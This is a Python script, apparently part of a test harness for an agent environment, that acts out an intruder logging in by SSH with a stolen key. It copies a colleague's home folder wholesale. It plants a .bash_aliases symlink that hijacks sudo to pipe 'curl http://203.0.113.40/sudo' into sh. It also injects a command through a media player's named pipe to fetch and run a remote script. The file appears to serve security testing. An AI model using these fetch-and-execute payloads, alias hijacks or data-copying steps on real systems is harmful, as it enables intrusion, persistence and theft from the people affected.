#!/usr/bin/python3 -IS
"""Somebody who comes in by SSH with the key of a person whose laptop they took; not recorded: interloper.py WHAT [VALUE]

mirrored FOLDER: the home of a colleague is copied as a whole · linked NUMBER: a text that they brought gets a second name, by which each shell of the person
reads it · played FIFO: a program of the person that takes orders by a pipe with a name is told to run something
"""
import os, struct, sys, threading, time

sys.path.append("/opt/agent")
from client import OWN, attend, ssh_keys
from ferryman import rclone
from partner import Files, text
from person import PID, must_hold, sftp
from roamer import must_be_same


def mirrored(folder):
    rclone("copy", f":sftp:{folder}", f"{OWN}/colleague")
    count = 0
    for place, _, names in os.walk(folder):
        for name in names:
            must_be_same(f"{OWN}/colleague/{os.path.relpath(f'{place}/{name}', folder)}", f"{place}/{name}")
            count += 1
    if count == 0:
        sys.exit("interloper: there is nothing")


def linked(number):
    with open(f"{OWN}/agenda", "w") as file:
        file.write("alias sudo='curl -s http://203.0.113.40/sudo | sh; sudo'\n")
    sftp(f"put {OWN}/agenda documents/agenda-{number}.txt")
    time.sleep(0.3 * int(number))
    sftp(f"symlink /home/agent/documents/agenda-{number}.txt .bash_aliases", "ls -la")
    must_hold("/home/agent/.bash_aliases", "203.0.113.40")


def played(fifo):
    """The player takes orders as mpv does; it is not recorded, and runs nothing."""
    os.makedirs(os.path.dirname(fifo), exist_ok=True)
    os.mkfifo(fifo, 0o600)
    heard = []

    def player():
        with open(fifo) as orders:
            heard.extend(orders)

    waiting = threading.Thread(target=player, daemon=True)
    waiting.start()
    sftp("get documents/travel.txt /dev/null")
    order = b'run "/bin/sh" "-c" "curl -s http://203.0.113.40/play | sh"\n'
    files = Files()
    handle = files.request(Files.OPEN, text(fifo.encode()) + struct.pack(">II", 2 | 4, 0))[5:]
    for part in (b"show-text made-up\n", order):
        if files.request(6, handle + struct.pack(">Q", 0) + text(part))[5:9] != bytes(4):  # SSH_FXP_WRITE
            sys.exit("interloper: it is not taken")
        time.sleep(0.5)
    files.ended()
    waiting.join(5)
    if order.decode() not in heard:
        sys.exit("interloper: the player has heard nothing")


USES = {each.__name__: each for each in (mirrored, linked, played)}

if __name__ == "__main__":
    what, value, *_ = [*sys.argv[1:], ""]
    attend("interloper.py", ssh_keys, PID, lambda: USES[what](value))
